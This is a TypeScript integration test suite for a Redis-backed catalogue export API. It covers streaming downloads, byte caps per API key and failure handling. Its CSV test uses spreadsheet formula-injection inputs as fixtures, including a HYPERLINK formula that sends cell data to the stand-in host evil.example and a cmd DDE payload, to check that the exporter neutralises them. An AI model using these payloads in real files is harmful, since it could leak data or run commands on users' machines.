// Catalogue exports end to end over real sockets: CSV formula neutralisation, a ~5 MiB export built in chunks,
// downloads streamed from Redis (HEAD, client resets, many at once) and the per-key cap on stored export bytes.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { after, before, test } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { buildApp } from '../src/app/index.ts';
import { EXPORT_KEEP_S, EXPORT_MAX_BYTES, appJobs } from '../src/app/exports.ts';
import { exportKeys, itemKeys } from '../src/app/keys.ts';
import { loadConfig } from '../src/config.ts';
import { createLogger } from '../src/log.ts';
import { createQueue, startWorker, type Queue, type Worker } from '../src/queue/index.ts';
import { closeRedis, createRedis, pingRedis, type Redis } from '../src/redis/index.ts';
import { testClient, type TestClient } from '../src/testing/index.ts';
import { until } from './support/queue.ts';
import { connectedClient, startTestRedis, type TestRedis } from './support/redis.ts';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const KEYS = ['key-a', 'key-b', 'key-c', 'key-d', 'key-e', 'key-f', 'key-g'];
const as = (key: string) => ({ 'x-api-key': key });
const PREFIX = 'ex:';
/** Two exports not yet complete fit (2 × 5 MiB), a third does not. */
const CAP = 12 * 1024 * 1024;
const BULK_ITEMS = 2600;
const log = createLogger('silent');

let server: TestRedis;
let redis: Redis;
let app: TestClient;
/** The same app on a queue no worker reads: its exports stay queued, counting at the file cap. */
let idleApp: TestClient;
let idleQueue: Queue;
let worker: Worker;

before(async () => {
  server = await startTestRedis();
  const env = { REDIS_URL: server.url, REDIS_PREFIX: PREFIX, API_KEYS: KEYS.join(','), CACHE_ENABLED: 'false', EXPORT_MAX_STORED_BYTES: String(CAP) };
  const config = loadConfig(env);
  const idleConfig = loadConfig({ ...env, QUEUE_NAME: 'idle' });
  redis = createRedis({ url: server.url, commandTimeoutMs: 2000, log });
  await until(() => redis.isReady);
  const services = { log, redis, isDraining: () => false, pingRedis: () => pingRedis(redis, 300) };
  app = await testClient(buildApp({ config, ...services }));
  idleApp = await testClient(buildApp({ config: idleConfig, ...services }));
  idleQueue = createQueue({ redis, prefix: PREFIX, name: 'idle', jobs: appJobs(idleConfig) });
  await idleQueue.ensureGroup();
  worker = startWorker({ queue: createQueue({ redis, prefix: PREFIX, jobs: appJobs(config) }), consumer: 'w', log, leaseMs: 5000, blockMs: 100 });
  await worker.ready;
  await seedBulk();
});
after(async () => {
  await worker.stop();
  await app.close();
  await idleApp.close();
  await closeRedis(redis);
  await server.stop();
});

/** ~2 KB per item, multi-byte characters throughout: about 5 MiB as NDJSON, tagged `bulk`. */
async function seedBulk(): Promise<void> {
  const keys = itemKeys(PREFIX);
  const tx = redis.multi();
  const now = new Date().toISOString();
  for (let i = 0; i < BULK_ITEMS; i++) {
    const id = (1_000_000 + i).toString(36).padStart(10, '0') + 'b'.repeat(10);
    tx.hSet(keys.item(id), { id, name: `Bulk ${i}`, description: `${i}: ${'crème brûlée, déjà vu ✓ '.repeat(80)}`, price: String(i), tags: '["bulk"]', created_at: now, updated_at: now });
    tx.zAdd(keys.all, { score: 0, value: id });
    tx.zAdd(keys.tag('bulk'), { score: 0, value: id });
  }
  await tx.exec();
}

async function exportDone(id: string, key = KEYS[0]): Promise<{ status: string; result: { items: number; bytes: number; truncated: boolean; file: string } }> {
  let job: any;
  await until(async () => ['complete', 'failed', 'aborted'].includes((job = (await app.get(`/v1/jobs/${id}`, { headers: as(key) })).json()).status), 20_000, `export ${id}`);
  return job;
}

async function runExport(body: Record<string, unknown>, key = KEYS[0]) {
  const created = await app.post('/v1/exports', body, { headers: as(key) });
  assert.equal(created.status, 202, created.text);
  const job = await exportDone(created.json().id, key);
  assert.equal(job.status, 'complete');
  return { id: created.json().id as string, ...job.result };
}

let bulk: Promise<{ id: string; bytes: number; items: number; truncated: boolean; cpuMs: number }> | undefined;
/** The ~5 MiB NDJSON export of the bulk items, made once (by key-f, so the cap tests start clean). */
function bulkExport() {
  return (bulk ??= (async () => {
    const cpu = process.cpuUsage();
    const result = await runExport({ format: 'ndjson', tag: 'bulk' }, KEYS[5]);
    const used = process.cpuUsage(cpu);
    return { ...result, cpuMs: Math.round((used.user + used.system) / 1000) };
  })());
}

/**
 * JS heap plus Buffers after full collections. Buffer memory is freed behind the collection (a loaded machine lags
 * by a second or more), so the least of a few readings a moment apart counts.
 */
async function heapBytes(): Promise<number> {
  let least = Infinity;
  for (let i = 0; i < 4; i++) {
    gc();
    await new Promise((r) => setTimeout(r, 100));
    const m = process.memoryUsage();
    least = Math.min(least, m.heapUsed + m.arrayBuffers);
  }
  return least;
}

const tcpSockets = () => process.getActiveResourcesInfo().filter((r) => r === 'TCPSocketWrap').length;

/** A raw GET that resolves once `bytes` of the answer arrived; the socket is then paused (it reads no more). */
function startDownload(path: string, bytes: number): Promise<Socket> {
  const { port } = new URL(app.url);
  return new Promise((resolve, reject) => {
    const socket = connect({ port: Number(port), host: '127.0.0.1' });
    let received = 0;
    socket.on('error', reject);
    socket.on('data', (data: Buffer) => {
      received += data.length;
      if (received >= bytes) {
        socket.pause();
        socket.removeAllListeners('data');
        resolve(socket);
      }
    });
    socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\nX-API-Key: ${KEYS[5]}\r\nConnection: close\r\n\r\n`);
  });
}

test('CSV: cells that start like a formula are quoted behind a leading apostrophe; price stays a number', async () => {
  const evil = [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', price: 1, tags: ['formula'] },
    { name: '+cmd|\' /C calc\'!A0', description: '-2+3', price: 2, tags: ['formula', '@tag'] },
    { name: '@SUM(A1:A9)', description: '\tindented', price: 3, tags: ['formula'] },
    { name: 'Plain, name', description: '\rreturn', price: 4.5, tags: ['formula'] },
  ];
  for (const item of evil) assert.equal((await app.post('/v1/items', item, { headers: as(KEYS[0]) })).status, 201);
  const done = await runExport({ format: 'csv', tag: 'formula' });
  assert.equal(done.items, 4);
  const file = await app.get(done.file, { headers: as(KEYS[0]) });
  assert.equal(file.status, 200);
  const text = file.text;
  assert.ok(text.includes(',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'), text);
  assert.ok(text.includes(',"\'+cmd|\' /C calc\'!A0","\'-2+3",2,formula @tag,'), text);
  assert.ok(text.includes(',"\'@SUM(A1:A9)","\'\tindented",3,formula,'), text);
  assert.ok(text.includes(',"Plain, name","\'\rreturn",4.5,formula,'), text);
  // No cell of a row begins with a formula character unless it is a number we wrote.
  for (const line of text.split('\n').slice(1, -1)) assert.doesNotMatch(line, /(^|,)[=+@\t]/, line);
  // A tag list that starts with a formula character is one cell, neutralised as a whole.
  assert.equal((await app.post('/v1/items', { name: 'Tagged', price: 5, tags: ['=1+1', 'formula2'] }, { headers: as(KEYS[0]) })).status, 201);
  const tagged = await app.get((await runExport({ format: 'csv', tag: 'formula2' })).file, { headers: as(KEYS[0]) });
  assert.match(tagged.text, /,5,"'=1\+1 formula2",/);
});

test('a ~5 MiB export is built in chunks and downloads byte for byte, with Content-Length; HEAD sends no body', async () => {
  const done = await bulkExport();
  console.log(`# ~5 MiB NDJSON export (${done.bytes} bytes, ${done.items} items): ${done.cpuMs} ms CPU in this process (API + worker)`);
  assert.equal(done.truncated, true, 'the bulk catalogue passes the file cap');
  assert.ok(done.bytes <= EXPORT_MAX_BYTES && done.bytes > EXPORT_MAX_BYTES - 4096, String(done.bytes));
  // Generous: the quadratic builder took seconds of CPU for this file (5.6 s on the handler alone).
  assert.ok(done.cpuMs < 3000, `${done.cpuMs} ms of CPU`);
  const keys = exportKeys(PREFIX);
  assert.equal(await redis.exists(keys.part(done.id, 1)), 0, 'the part was moved into place');
  const ttl = await redis.ttl(keys.file(done.id));
  assert.ok(ttl > EXPORT_KEEP_S - 60 && ttl <= EXPORT_KEEP_S, String(ttl));

  const res = await fetch(`${app.url}/v1/exports/${done.id}/file`, { headers: as(KEYS[5]) });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-length'), String(done.bytes));
  const body = Buffer.from(await res.arrayBuffer());
  assert.equal(body.length, done.bytes);
  const lines = body.toString('utf8').split('\n');
  assert.equal(lines.pop(), '', 'ends at a whole line');
  assert.equal(lines.length, done.items);
  lines.forEach((line, i) => {
    const item = JSON.parse(line);
    assert.equal(item.name, `Bulk ${i}`);
    assert.equal(item.description, `${i}: ${'crème brûlée, déjà vu ✓ '.repeat(80)}`, 'multi-byte characters survive chunk boundaries');
  });

  const head = await fetch(`${app.url}/v1/exports/${done.id}/file`, { method: 'HEAD', headers: as(KEYS[5]) });
  assert.equal(head.status, 200);
  assert.equal(head.headers.get('content-length'), String(done.bytes));
  assert.equal((await head.arrayBuffer()).byteLength, 0);
});

test('downloads stream: clients that reset mid-file leave nothing behind; many at once hold a chunk each, not the file', async () => {
  const done = await bulkExport();
  const path = `/v1/exports/${done.id}/file`;
  const sockets = tcpSockets();
  const heap = await heapBytes();

  for (let i = 0; i < 20; i++) (await startDownload(path, 256 * 1024)).resetAndDestroy();
  await until(() => tcpSockets() <= sockets, 10_000, 'the server to close every reset download');
  assert.equal((await app.get('/healthz')).status, 200);
  const afterResets = await heapBytes();
  assert.ok(afterResets - heap < 8 * 1024 * 1024, `heap grew ${afterResets - heap} bytes over 20 reset downloads`);

  // Twelve downloads stalled by their clients: the server holds about a chunk for each, not 12 × 5 MiB.
  const stalled: Socket[] = [];
  try {
    for (let i = 0; i < 12; i++) stalled.push(await startDownload(path, 64 * 1024));
    await new Promise((r) => setTimeout(r, 300));
    const grown = (await heapBytes()) - heap;
    assert.ok(grown < (12 * done.bytes) / 4, `heap grew ${grown} bytes with 12 downloads of ${done.bytes} bytes in flight`);
  } finally {
    for (const socket of stalled) socket.destroy();
  }
  await until(() => tcpSockets() <= sockets, 10_000, 'the server to close the stalled downloads');
});

const keyIdOf = (key: string) => createHash('sha256').update(key).digest('hex').slice(0, 12);
const heldBytes = async (key: string) => Number((await redis.hGet(exportKeys(PREFIX).heldBytes(keyIdOf(key)), 'total')) ?? 0);

test('cap: an API key holds at most EXPORT_MAX_STORED_BYTES; past it 429 problem+json and nothing is enqueued', async () => {
  const [key, other] = [KEYS[1], KEYS[2]];
  const queued = async () => (await idleQueue.stats()).queued;
  const before = await queued();
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) })).status, 202);
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) })).status, 202);
  const refused = await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) });
  assert.equal(refused.status, 429);
  assert.equal(refused.headers.get('content-type'), 'application/problem+json');
  assert.equal(refused.json().code, 'QUOTA_EXCEEDED');
  const retryAfter = Number(refused.headers.get('retry-after'));
  assert.ok(retryAfter > EXPORT_KEEP_S - 60 && retryAfter <= EXPORT_KEEP_S, String(retryAfter));
  assert.equal(await queued(), before + 2, 'the refused export was not enqueued');
  assert.equal(await heldBytes(key), 2 * EXPORT_MAX_BYTES);
  // Per key: another key is not affected.
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(other) })).status, 202);

  // A replayed request counts once: the same Idempotency-Key gets the same export and no second reservation.
  const headers = { ...as(other), 'idempotency-key': 'cap-replay' };
  const first = await idleApp.post('/v1/exports', { format: 'ndjson' }, { headers });
  const replay = await idleApp.post('/v1/exports', { format: 'ndjson' }, { headers });
  assert.equal(first.status, 202);
  assert.equal(replay.status, 202);
  assert.equal(replay.json().id, first.json().id);
  assert.equal(await heldBytes(other), 2 * EXPORT_MAX_BYTES);

  // Reservations stop counting when their time is past (pruned by score in the same call).
  const held = exportKeys(PREFIX).held(keyIdOf(key));
  for (const reservation of await redis.zRange(held, 0, -1)) await redis.zAdd(held, { score: Date.now() - 1, value: reservation }, { XX: true });
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) })).status, 202);
  assert.equal(await heldBytes(key), EXPORT_MAX_BYTES);
});

test('cap: concurrent requests never pass it together; a completed export counts at its real size', async () => {
  const key = KEYS[3];
  const answers = await Promise.all(Array.from({ length: 8 }, () => idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) })));
  assert.deepEqual(answers.map((a) => a.status).sort(), [202, 202, 429, 429, 429, 429, 429, 429]);

  const done = KEYS[4];
  const a = await runExport({ format: 'csv', tag: 'formula' }, done);
  const b = await runExport({ format: 'ndjson', tag: 'formula' }, done);
  assert.equal(await heldBytes(done), a.bytes + b.bytes, 'finished exports count at their size');
  // So two more fit beside them (each still counts at the file cap until it completes).
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(done) })).status, 202);
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(done) })).status, 202);
  assert.equal((await idleApp.post('/v1/exports', { format: 'csv' }, { headers: as(done) })).status, 429);
});

test('cap: with Redis hung the export is refused with 503, not enqueued unchecked', async () => {
  server.pause();
  try {
    const res = await app.post('/v1/exports', { format: 'csv' }, { headers: as(KEYS[0]) });
    assert.equal(res.status, 503);
    assert.equal(res.headers.get('content-type'), 'application/problem+json');
  } finally {
    server.resume();
  }
});

test('cap: an enqueue that certainly did not apply (503 applied: false) gives its reservation back', async (t) => {
  // The app's queue on a Redis of its own, hung: the reservation (on the app's Redis) passes, the enqueue times out
  // at the request's deadline, and the queue's guard makes that a certain "not enqueued".
  const queueServer = await startTestRedis();
  t.after(() => queueServer.stop());
  const queueRedis = await connectedClient(queueServer);
  t.after(() => closeRedis(queueRedis));
  const config = loadConfig({ REDIS_URL: server.url, REDIS_PREFIX: PREFIX, API_KEYS: KEYS.join(','), CACHE_ENABLED: 'false', EXPORT_MAX_STORED_BYTES: String(CAP) });
  const queue = createQueue({ redis: queueRedis, prefix: PREFIX, jobs: appJobs(config) });
  const hungQueueApp = await testClient(buildApp({ config, log, redis, queue, isDraining: () => false, pingRedis: () => pingRedis(redis, 300) }));
  t.after(() => hungQueueApp.close());
  const key = KEYS[6];
  queueServer.pause();
  try {
    const refused = await hungQueueApp.post('/v1/exports', { format: 'csv' }, { headers: as(key) });
    assert.equal(refused.status, 503, refused.text);
    assert.equal(refused.json().code, 'SERVICE_UNAVAILABLE');
    assert.equal(refused.json().applied, false);
  } finally {
    queueServer.resume();
  }
  assert.equal(await heldBytes(key), 0, 'nothing was enqueued, so nothing counts');
});

test('a download whose Redis hangs mid-file is cut within the command bound, short of its Content-Length', async () => {
  const done = await bulkExport();
  const socket = await startDownload(`/v1/exports/${done.id}/file`, 64 * 1024);
  let received = 0;
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  server.pause();
  try {
    socket.on('data', (data: Buffer) => (received += data.length));
    socket.resume();
    const started = Date.now();
    await Promise.race([closed, new Promise((_, reject) => setTimeout(() => reject(new Error('the download was never cut')), 10_000))]);
    assert.ok(Date.now() - started < 10_000);
    assert.ok(received < done.bytes, `${received} of ${done.bytes} bytes: the client sees the file is incomplete`);
  } finally {
    server.resume();
    socket.destroy();
  }
  assert.equal((await app.get('/healthz')).status, 200);
});
